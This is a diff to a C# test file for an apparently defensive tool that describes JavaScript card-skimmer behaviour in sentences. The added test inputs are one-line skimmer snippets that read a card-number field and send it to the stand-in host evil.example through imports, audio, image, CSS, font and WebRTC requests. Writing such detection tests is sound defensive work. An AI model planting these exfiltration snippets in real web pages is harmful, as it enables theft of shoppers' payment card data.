@@ -56,7 +56,29 @@ public sealed class ScriptFlowTests
     [InlineData("var f = document.createElement('iframe'); f.src = `https://evil.example/${document.querySelector('#cc-number').value}`", "Reads #cc-number and sends to evil.example by a frame.")]
     [InlineData("document.querySelector('#payment-form').action = 'https://evil.example/take'", "Sends to evil.example by changing where a form goes.")]
     [InlineData("if (/checkout|onepage/.test(location.href) && page('checkout')) { var s = document.createElement('script'); s.src = 'https://evil.example/x.js' }", "Looks whether the page is checkout and brings a script of evil.example.")]
+    [InlineData("import('https://evil.example/m.js?' + document.querySelector('#cc-number').value)", "Reads #cc-number and sends to evil.example by import.")]
+    [InlineData("new Audio('https://evil.example/a.mp3?' + document.querySelector('#cc-number').value).load()", "Reads #cc-number and sends to evil.example by an audio request.")]
+    [InlineData("document.images[0].src = 'https://evil.example/k.gif?k=' + document.querySelector('#cc-number').value", "Reads #cc-number and sends to evil.example by an image request.")]
+    [InlineData("document.body.style.backgroundImage = 'url(https://evil.example/b.png?' + document.querySelector('#cc-number').value + ')'", "Reads #cc-number and sends to evil.example by an image request.")]
+    [InlineData("new FontFace('f', 'url(https://evil.example/f.woff?' + document.querySelector('#cc-number').value + ')').load()", "Reads #cc-number and sends to evil.example by a font request.")]
+    [InlineData("new RTCPeerConnection({ iceServers: [{ urls: 'stun:evil.example:3478', username: document.querySelector('#cc-number').value }] })", "Reads username, #cc-number and sends to evil.example:3478 by RTCPeerConnection.")]
     public void Say_Skimmer_NamesSourceAndSink(string code, string sentence) => Of(code)!.Value.Sentence.ShouldBe(sentence);
+
+    /// <summary>A text that names elements is no event, and what a request or an image is done with is none of the page.</summary>
+    [Theory]
+    [InlineData("$('body').on('change', 'input', function () { fetch('https://evil.example/' + this.value, cc_number) })", "on change and")]
+    [InlineData("document.createElement('input'); fetch('https://evil.example/' + cc_number)", "cc_number and")]
+    [InlineData("var x = new XMLHttpRequest(); x.onload = done; x.send('https://evil.example/', cc_number)", "cc_number and")]
+    [InlineData("img.addEventListener('load', done); fetch('https://evil.example/', cc_number)", "cc_number and")]
+    [InlineData("window.onload = function () { fetch('https://evil.example/', cc_number) }", "cc_number on load and")]
+    [InlineData("document.addEventListener('input', function () { fetch('https://evil.example/', cc_number) })", "cc_number on input and")]
+    public void Say_Occasion_IsAnEventOfThePage(string code, string part) => Of(code)!.Value.Sentence.ShouldContain(part);
+
+    /// <summary>A constant that is brought in takes nothing away.</summary>
+    [Theory]
+    [InlineData("new Audio('https://cdn.example/ding.mp3').play(); document.querySelector('#cc-number').value", "an audio request")]
+    [InlineData("import('https://cdn.example/m.js'); fetch('https://api.example/' + document.querySelector('#cc-number').value)", "import")]
+    public void Say_ConstantAddress_IsNoSink(string code, string sink) => (Of(code)?.Sentence ?? "").ShouldNotContain(sink);
 
     /// <summary>A method, a setting or a file of such a name is no field.</summary>
     [Theory]
